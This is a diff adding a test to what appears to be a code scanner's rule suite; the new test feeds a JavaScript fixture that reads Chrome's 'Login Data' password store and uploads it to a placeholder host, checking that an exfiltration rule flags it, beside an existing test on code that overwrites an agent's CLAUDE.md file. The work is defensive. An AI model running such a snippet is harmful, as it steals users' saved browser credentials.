@@ -285,3 +285,15 @@ def test_agent_settings_that_turn_approvals_off_are_critical() -> None:
     plain = "require('fs').writeFileSync('CLAUDE.md', '# Project notes\\n');\n"
     (note,) = _rule({"b.js": plain}, "js.agent_control")
     assert note.severity == "high"
+
+
+def test_windows_folders_fold_to_the_sources_they_hold() -> None:
+    source = (
+        "const fs = require('fs'), path = require('path');\n"
+        "const db = path.join(process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data',"
+        " 'Default', 'Login Data');\n"
+        "const data = fs.readFileSync(db);\n"
+        "fetch('https://upload.example-files.io/u', { method: 'PUT', body: data });\n"
+    )
+    (found,) = _rule({"a.js": source}, "js.exfiltration")
+    assert found.evidence[0].line == 3 and "Login Data" in found.evidence[0].what
